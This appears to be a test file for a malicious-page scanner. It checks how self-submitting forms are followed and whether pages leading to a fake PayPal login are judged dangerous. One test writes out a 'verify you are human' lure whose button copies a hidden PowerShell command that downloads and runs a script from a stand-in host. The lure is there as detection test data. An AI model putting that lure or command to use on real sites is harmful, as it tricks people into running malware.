import { describe, expect, test } from 'bun:test'
import { page, type SiteAnswers } from '../../support/site.ts'
import { HONEST, html, isSeen, KIT, TEXT, variants, visited } from './visited.ts'

describe('a form that a page sends by itself [T14]', () => {
  const ways = {
    'by submit': 'f.submit()',
    'by the method of the class': 'HTMLFormElement.prototype.submit.call(f)',
    'by requestSubmit': 'f.requestSubmit()',
    'by a press of its button': 'b.click()',
    'by its place in the list': 'document.forms[0].submit()',
    'made by the script':
      "const g = document.createElement('form'); g.method = f.method; g.action = f.action; g.innerHTML = f.innerHTML; document.body.append(g); g.submit()",
  }
  const form = (method: string) =>
    `<form id=f action="/in" method=${method}><input type=hidden name=t value="a b"><button id=b>Go</button></form>`

  test.each(variants(ways))('by GET is followed: %s', async (_, code, beside) => {
    const answers = (there: string): SiteAnswers => ({
      '/': html(`${beside}${form('get')}<script>${code}</script>`),
      '/in?t=a+b': page(there),
    })
    const { report } = await visited(answers(KIT))
    expect(report).toMatchObject({ verdict: 'dangerous', page: { title: 'PayPal: Log in' } })
    expect(report.redirects.map(({ status }) => status)).toEqual([200])
    const honest = await visited(answers(HONEST))
    expect(honest.report).toMatchObject({ verdict: 'benign', confidence: 0.9 })
  })

  test.each(variants(ways))('by POST is never sent, and the report says so: %s', async (_, code, beside) => {
    const { report, paths } = await visited({ '/': html(`${beside}${form('post')}<script>${code}</script>`) })
    expect(paths).toEqual(['/'])
    expect(report.coverage.limits).toContain('not_followed')
    expect(report).toMatchObject({ verdict: 'inconclusive', grade: null, confidence: 0.3 })
  })

  test('beside an article it is a limit', async () => {
    const { report } = await visited({
      '/': html(`<p>${TEXT.repeat(20)}</p>${form('post')}<script>f.submit()</script>`),
    })
    expect(report.coverage.limits).toContain('not_followed')
    expect(report).toMatchObject({ verdict: 'benign', confidence: 0.8 })
  })

  test('into a new window is visited beside the page, which is judged itself', async () => {
    const { report } = await visited({
      '/': html(
        `<p>Wait</p>${form('get').replace('<form', '<form target=_blank')}<script>f.submit()</script>`,
      ),
      '/in?t=a+b': page(KIT),
    })
    expect(isSeen(report)).toBe(true)
    expect(report).toMatchObject({ page: { title: 'PayPal: Log in' }, redirects: [] })
  })

  test('does not lead away from what is a threat by itself', async () => {
    const lure =
      '<h1>Verify you are human</h1><p>Press Win+R, then Ctrl+V and Enter.</p><button onclick="navigator.clipboard.writeText(\'powershell -w hidden -c iwr https://a.example/x.ps1 | iex\')">Copy</button>'
    const code = 'setTimeout(() => f.submit(), 9000)'
    const { report } = await visited({
      '/': html(`${lure}${form('get')}<script>${code}</script>`),
      '/in?t=a+b': page(HONEST),
    })
    expect(report.verdict).toBe('dangerous')
  })

  test('to where nothing is leads nowhere', async () => {
    const { report } = await visited({
      '/': html(`<p>Wait</p>${form('get')}<script>f.submit()</script>`),
      '/in?t=a+b': 'hello',
    })
    expect(report.coverage.bounds).toContain('destinations')
    expect(report.verdict).toBe('inconclusive')
  })

  test('with the value of the button that sends it, and of no other', async () => {
    const { paths } = await visited({
      '/': html(
        '<form id=f action="/in?old=1"><input type=hidden name=a value=1><input type=checkbox name=b><input type=checkbox name=c value=3 checked><input name=d value=4 disabled><button name=e value=5>No</button><button id=s name=g value=6 formaction="/there">Go</button></form><script>s.click()</script>',
      ),
      '/there?a=1&c=3&g=6': page(HONEST),
    })
    expect(paths.at(-1)).toBe('/there?a=1&c=3&g=6')
  })
})
